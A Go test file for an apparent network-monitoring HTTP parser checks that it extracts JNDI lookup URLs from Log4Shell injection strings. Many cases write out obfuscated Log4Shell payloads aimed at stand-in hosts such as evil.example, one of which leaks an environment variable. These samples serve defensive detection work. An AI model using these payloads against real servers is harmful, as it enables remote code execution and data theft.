package http

import (
	"strings"
	"testing"

	"neuromast/flows"
)

func TestLookups(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1:1389/a}", "ldap://192.0.2.1:1389/a"},
		{"GET /?x=${jndi:dns://evil.example/x} HTTP/1.1", "dns://evil.example/x"},
		{"GET /?x=%24%7bjndi%3aldap%3a%2f%2fevil.example%2fa%7d HTTP/1.1", "ldap://evil.example/a"},
		{"GET /?x=$%7Bjndi:rmi://evil.example/a%7D HTTP/1.1", "rmi://evil.example/a"},
		{"X-Api: ${${lower:J}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "ldap://evil.example/a"},
		{"X-Api: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}", "rmi://evil.example/a"},
		{"X-Api: ${${env:NO:-j}ndi${sys:x:-:}${upper:ldap}:/${date:'/'}evil.example/${env:USER}}", "ldap://evil.example/"},
		{"X-Api: ${${lower:${lower:jndi}}:ldap://evil.example/a}", "ldap://evil.example/a"},
		{"X-Api: ${JNDI:LDAP://evil.example/a", "LDAP://evil.example/a"},
		{"X-Api: ${a}${b:-c}${jndi:ldap://evil.example/a}", "ldap://evil.example/a"},
		{"X-Api: ${foo.${jndi:ldap://evil.example/a}}", "ldap://evil.example/a"},
		{"X-Api: ${jndi:}", "?"},
		{"GET /${tenant}/x HTTP/1.1\r\nX: jndi:ldap://x ${price}", ""},
		{"X-Api: ${name:-jndi:ldap://x}", ""},
		{"X-Api: " + strings.Repeat("${", 3000) + "jndi:x", ""},
		{"X-Api: " + strings.Repeat("${a", 8) + "${jndi:x}", "x"},
		{"X-Api: ${jndi:ldap://h/" + strings.Repeat("a", 5000) + "}", "ldap://h/" + strings.Repeat("a", maxField-5-9)},
	} {
		var l lookups
		l.scan([]byte(c.line))
		if got := string(l.found.bytes()); got != c.want {
			t.Errorf("%.90s: %q, want %q", c.line, got, c.want)
		}
	}
}

// TestLookupAtOnce holds that a request with a look-up is told before its answer comes: the server asks in between.
func TestLookupAtOnce(t *testing.T) {
	p := New(&Stats{})
	p.Reset(false)
	out := &flows.Out{Batch: &flows.Batch{}}
	c := flows.Conn{}
	p.Data(out, &c, flows.Orig, []byte("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n"), flows.Ref{Frame: 1})
	if n := len(out.Batch.HTTP); n != 1 || out.Batch.String(out.Batch.HTTP[0].Lookup) != "ldap://evil.example/a" {
		t.Fatalf("%d told", n)
	}
	p.Data(out, &c, flows.Resp, []byte("HTTP/1.1 200 OK\r\n\r\n"), flows.Ref{Frame: 2})
	p.Data(out, &c, flows.Orig, []byte("GET /b HTTP/1.1\r\nHost: a\r\n\r\n"), flows.Ref{Frame: 3})
	p.Flush(out, &c, true)
	if n := len(out.Batch.HTTP); n != 2 || out.Batch.HTTP[1].Lookup.Len != 0 {
		t.Errorf("%d told", n)
	}
}

func FuzzLookups(f *testing.F) {
	f.Add([]byte("X-Api: ${${lower:J}ndi:${::-l}dap://evil.example/a}\r\nY: %24%7bjndi:x"))
	f.Add([]byte("${${${${${${${${${${${jndi:a}}}}}}}}}}}}:-${date:'}"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var l lookups
		l.scan(b)
	})
}
